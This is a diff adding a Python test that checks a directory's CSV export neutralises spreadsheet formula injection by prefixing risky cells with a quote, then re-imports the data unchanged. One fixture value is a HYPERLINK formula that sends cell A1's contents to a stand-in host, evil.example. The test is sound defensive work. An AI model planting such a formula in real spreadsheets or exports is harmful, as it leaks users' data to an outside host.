@@ -267,6 +267,34 @@ def test_csv_export_then_import_is_unchanged():
     assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
 
 
+def test_csv_export_neutralises_formulas_in_every_text_cell_and_reads_them_back():
+    import csv
+    import io
+
+    AuthorityFactory(
+        identifier="ro-formula",
+        name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        postal_address="@SUM(1+1)",
+        email="-2+3@example.org",
+        phone="+40211234567",
+        languages=["ro"],
+        instruments=["mla"],
+    )
+    exported = directory_export_csv()
+    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["identifier"] == "ro-formula")
+
+    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assert row["postal_address"] == "'@SUM(1+1)"
+    assert row["phone"] == "'+40211234567"
+    assert not any(
+        cell.startswith(("=", "+", "-", "@"))
+        for r in csv.reader(io.StringIO(exported))
+        for cell in r
+    )
+    report = directory_import(data=exported.encode(), fmt="csv")
+    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
+
+
 def test_csv_with_unknown_columns_is_refused():
     with pytest.raises(DirectoryImportError, match="unknown columns: colour"):
         directory_import(data=b"identifier,country,name,kind,colour\n", fmt="csv")
